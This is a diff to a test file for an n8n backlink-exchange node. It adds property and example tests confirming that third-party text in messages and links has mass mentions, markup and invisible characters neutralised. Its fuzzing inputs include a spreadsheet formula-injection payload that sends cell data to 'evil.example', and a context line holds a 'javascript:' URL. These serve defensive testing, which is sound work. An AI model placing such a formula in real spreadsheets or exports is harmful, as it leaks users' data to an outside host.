@@ -6,6 +6,11 @@ import fc from 'fast-check';
 import type { IDataObject } from 'n8n-workflow';
 import { describe, expect, it } from 'vitest';
 
+import {
+	decisionToItem,
+	headlines,
+} from '../../../../nodes/BacklinkExchange/resources/exchange/decision.ts';
+import { digest } from '../../../../nodes/shared/formatting/digest.ts';
 import { eventMessage, eventTitle } from '../../../../nodes/shared/formatting/eventMessage.ts';
 import { formatSite, quote, sanitize } from '../../../../nodes/shared/formatting/message.ts';
 import { getPageUrl } from '../../../../nodes/shared/formatting/pageUrl.ts';
@@ -23,6 +28,17 @@ it.each([
 	['two\nlines\tand  more', '“two lines and more”'],
 	['<!channel> <b>hi</b>', '“‹!channel› ‹b›hi‹/b›”'],
 	['zero\u200bwidth \u202eleft', '“zerowidth left”'],
+	['@everyone look at <!channel> @here', '“＠everyone look at ‹!channel› ＠here”'],
+	['@ALL, (@Team) @channel! @@here_', '“＠ALL, (＠Team) ＠channel! @＠here_”'],
+	['@every\u200done @here\u0301', '“＠everyone ＠here\u0301”'],
+	['info@all.example, a.b@team-tea.example', '“info@all.example, a.b@team-tea.example”'],
+	['x@here @all.example info@all.', '“x＠here ＠all.example info＠all.”'],
+	['@allison @teams @hereafter @anna', '“@allison @teams @hereafter @anna”'],
+	[`info@all.example ${'x'.repeat(64)}`, `“info@all.example ${'x'.repeat(62)}…”`],
+	[`${'x'.repeat(70)} info@all.example`, `“${'x'.repeat(70)} info＠all…”`],
+	['Health ❤️ 👩‍🌾 1️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿', '“Health ❤️ 👩‍🌾 1️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿”'],
+	['می\u200cخواهم क्\u200dष', '“می\u200cخواهم क्\u200dष”'],
+	[`❤${'\ufe0f'.repeat(9)}\u200b te\u200da\ufe0f`, '“❤\ufe0f tea”'],
 	[42, '“42”'],
 	['x'.repeat(100), `“${'x'.repeat(79)}…”`],
 	[' \u200b', undefined],
@@ -41,7 +57,8 @@ it('keeps any text on one line, without invisible characters, < and >, and cuts 
 	fc.assert(
 		fc.property(words, (text) => {
 			for (const shown of [sanitize(text, 60), quote(text) ?? '', formatSite(text) ?? '']) {
-				expect(shown).not.toMatch(
+				// Except those of an emoji.
+				expect(shown.replace(/👩‍🌾|(?<=[👩🌾])[\ufe0f\u200d]/gu, '')).not.toMatch(
 					/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}<>]|\p{Default_Ignorable_Code_Point}/u,
 				);
 				expect(Array.from(shown).length).toBeLessThanOrEqual(82);
@@ -74,6 +91,7 @@ it.each([
 	['javascript:alert(1)', undefined],
 	['a.example/x', undefined],
 	[`https://a.example/${'x'.repeat(1000)}`, undefined],
+	['https://a.example/@here?to=@anna', 'https://a.example/%40here?to=@anna'],
 	['https://a.example/??', 'https://a.example/?%3F'],
 ])('turns the page %s into the link %s', (live_url, link) => {
 	expect(getPageUrl({ live_url })).toBe(link);
@@ -325,5 +343,94 @@ describe('eventTitle', () => {
 			expect(title.length).toBeLessThanOrEqual(80);
 			expect(title).toMatch(/^(New|Link)[^<>\n]+…$/);
 		}
+	});
+});
+
+describe('messages with any third-party text in any field', () => {
+	const part = fc.constantFrom(
+		...[
+			'@everyone',
+			'@here',
+			'@Channel',
+			'@ALL',
+			'@team',
+			'@',
+			'all',
+			'here',
+			'<!channel>',
+			'<@U1>',
+		],
+		...['=IMPORTXML("https://evil.example/?"&A1,"//a")', '- ', '+', '=', '-', "'", '“', '”', '\t'],
+		...[
+			'\n',
+			'\u200b',
+			'\u200d',
+			'\u202e',
+			'\ufe0f',
+			'❤️',
+			'é',
+			' ',
+			'.',
+			'/',
+			':',
+			'a',
+			'x'.repeat(70),
+		],
+		...[
+			'https://a.example/',
+			'info@all.example',
+			'2026-07-01T12:00:00Z',
+			'critical',
+			'link_removed',
+		],
+	);
+	const text = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''));
+	const value = fc.oneof({ weight: 6, arbitrary: text }, fc.constantFrom(7, null, {}, true));
+	const fields = ['id', 'exchange_id', 'from_site', 'to_site', 'anchor', 'live_url', 'accepted_at'];
+	const thirdParty = fc.record(
+		Object.fromEntries(
+			[...fields, 'published_at', 'severity', 'type', 'detail', 'status', 'niche', 'url'].map(
+				(field) => [field, value],
+			),
+		),
+		{ requiredKeys: [] },
+	) as fc.Arbitrary<IDataObject>;
+	const events = ['requested', 'accepted', 'published', 'broken'].map((name) => `exchange.${name}`);
+	const event = fc.constantFrom(...events, 'watchdog.alert', 'credits.low');
+	const outcome = fc.constantFrom(...(Object.keys(headlines) as Array<keyof typeof headlines>));
+
+	it('begin with a letter or digit, and contain no markup or mention of everybody', () => {
+		fc.assert(
+			fc.property(thirdParty, event, outcome, text, (record, name, result, reason) => {
+				const own = new OwnSites([{ url: record.to_site, id: 'site_1' }]);
+				const ends = getExchangeEnds(record, own);
+				const decision = {
+					exchangeId: JSON.stringify(record.id),
+					outcome: result,
+					reason,
+					record,
+					ends,
+				};
+				const items = [
+					decisionToItem(decision, { includesRecord: false }),
+					{ message: eventMessage(name, record), title: eventTitle(name, record) },
+					{
+						message: eventMessage(name, record, { exchange: record, ends }),
+						title: eventTitle(name, record, record),
+					},
+				];
+				const digests = digest([{ label: 'new', items }]);
+				for (const { message, title } of [...items, ...digests] as Array<Record<string, string>>) {
+					for (const shown of [message, title].filter((words) => words !== undefined)) {
+						expect(shown).toMatch(/^[\p{L}\p{N}]/u);
+						expect(shown).not.toMatch(/[<>]/);
+						expect(
+							shown.replace(/(?<=[\p{L}\p{N}._%+-])@[\p{L}\p{N}-]+\.[\p{L}\p{N}]+/gu, ''),
+						).not.toMatch(/@(everyone|here|channel|all|team)(?![\p{L}\p{N}])/iu);
+					}
+				}
+			}),
+			{ numRuns: 2000 },
+		);
 	});
 });
